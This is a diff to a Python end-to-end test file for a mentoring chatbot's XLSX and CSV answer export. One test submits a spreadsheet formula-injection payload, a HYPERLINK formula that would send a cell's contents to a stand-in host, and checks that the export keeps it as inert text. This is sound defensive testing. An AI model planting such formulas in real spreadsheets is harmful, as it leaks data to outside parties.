@@ -2,16 +2,26 @@
 that reaches exactly the late CGPs once, the PP's one line per mentee."""
 from __future__ import annotations
 
+import csv
+import io
+import shutil
+import zipfile
 from collections.abc import AsyncIterator
 from datetime import date
+from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 
 from core.clock import FrozenClock
+from core.content import Content, load_content
 from store.models import FlowRun, RunStatus
+from tests.e2e.conftest import EXAMPLES
 from tests.e2e.harness import KOORDINATOR_ID, RunningBot, running_bot
 from tests.e2e.scheduling import DAYTIME, TG_IDS, join, nothing_more, person, received, set_lokakarya
+from tests.e2e.test_process import _env, _run
 
+CONTENT = Path(__file__).resolve().parents[2] / "content"
 PNG = b"\x89PNG\r\n\x1a\n"
 NUDGE = "belum terkirim. Mohon berkenan melengkapinya"
 
@@ -67,3 +77,67 @@ async def test_koordinator_sees_who_is_behind_and_nudges_them_once(bot, emulator
     assert lines[5].startswith("3. Rina Marlina — PI 1: ⏰") and lines[5].endswith("belum bergabung")
     answers = await users["PP01"].press("Dewi Lestari", "Dewi Lestari")
     assert answers.text
+
+
+LEAK = '=HYPERLINK("http://contoh.invalid/?x="&A2,"Klik")'
+RENAMED = "Proses apa yang sudah berjalan sebulan ini, dan apa capaian Bapak/Ibu?"
+
+
+def _renamed_content(tmp_path: Path) -> Content:
+    """The shipped content with PI 1's second question reworded (same question id)."""
+    root = tmp_path / "content"
+    shutil.copytree(CONTENT, root)
+    pi1 = root / "flows" / "pi1.yaml"
+    text = pi1.read_text(encoding="utf-8")
+    start = text.index("      - id: proses_sebulan\n        text: >-\n")
+    end = text.index("      - id:", start + 10)
+    pi1.write_text(text[:start] + f"      - id: proses_sebulan\n        text: {RENAMED}\n" + text[end:], encoding="utf-8")
+    return load_content(root)
+
+
+async def test_export_after_a_rename_keeps_old_answers_never_joined_and_formulas_inert(emulator, db, content, tmp_path):
+    async with running_bot(emulator, db, content, clock=FrozenClock(DAYTIME)) as first:
+        users = await join(first, "CGP01")
+        await users["CGP01"].say("/refleksi", "Pilih refleksi")
+        question = await users["CGP01"].press("Pendampingan Individu 1", "(1/20)")
+        emulator.click(users["CGP01"].id, "Sudah", question.message_id)
+        await users["CGP01"].next("(2/20)")
+        await users["CGP01"].say(LEAK, "(3/20)")
+
+    changed = _renamed_content(tmp_path)
+    assert changed.version != content.version
+    async with running_bot(emulator, db, changed, clock=FrozenClock(DAYTIME)) as second:
+        koordinator = second.user(KOORDINATOR_ID, "Sri")
+        await koordinator.join(expect="Koordinator")
+        await koordinator.say("/ekspor", "Berikut jawaban")
+        document = await koordinator.next(lambda m: m.kind == "document")
+        sheet = load_workbook(io.BytesIO(document.content))["Pendampingan Individu 1"]
+        header = [c.value for c in sheet[1]]
+        column = header.index(RENAMED) + 1
+        assert "Apa saja proses yang sudah berjalan" in sheet.cell(1, column).comment.text
+        rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+        leak = rows["Dewi Lestari"][column - 1]
+        assert (leak.value, leak.data_type, leak.quotePrefix) == (LEAK, "s", True)  # text, never a formula
+        assert rows["Rina Marlina"][header.index("Bergabung dengan bot")].value == "belum"
+        assert rows["Rina Marlina"][header.index("Status")].value == "belum mulai"
+
+        csv_file = await koordinator.press("📄 Unduh sebagai CSV", lambda m: m.kind == "document")
+        with zipfile.ZipFile(io.BytesIO(csv_file.content)) as archive:
+            table = list(csv.reader(io.StringIO(archive.read("Pendampingan Individu 1.csv").decode("utf-8-sig"))))
+        assert [r for r in table if r[0] == "Dewi Lestari"][0][column - 1] == "'" + LEAK
+
+
+async def test_export_from_the_command_line(tmp_path, database_url):
+    env = _env(DATABASE_URL=database_url)
+    assert (await _run("roster", "import", str(EXAMPLES / "roster.csv"), env=env, cwd=tmp_path))[0] == 0
+    code, out, err = await _run("export", "--cohort", "11", "--format", "csv", "--out", "jawaban.zip", env=env, cwd=tmp_path)
+    assert code == 0, err
+    assert out.startswith("Ekspor ditulis ke jawaban.zip")
+    with zipfile.ZipFile(tmp_path / "jawaban.zip") as archive:
+        table = list(csv.reader(io.StringIO(archive.read("Pendampingan Individu 1.csv").decode("utf-8-sig"))))
+    status = table[0].index("Status")
+    assert len(table) == 1 + 8 and {r[status] for r in table[1:]} == {"belum mulai"}  # the roster's 8 CGPs, none joined
+    code, _, err = await _run("export", "--cohort", "99", env=env, cwd=tmp_path)
+    assert code == 2 and "angkatan dengan kode 99 tidak ditemukan" in err
+    code, _, err = await _run("export", env=env, cwd=tmp_path)
+    assert code == 0 and any(tmp_path.glob("jawaban-*.xlsx"))
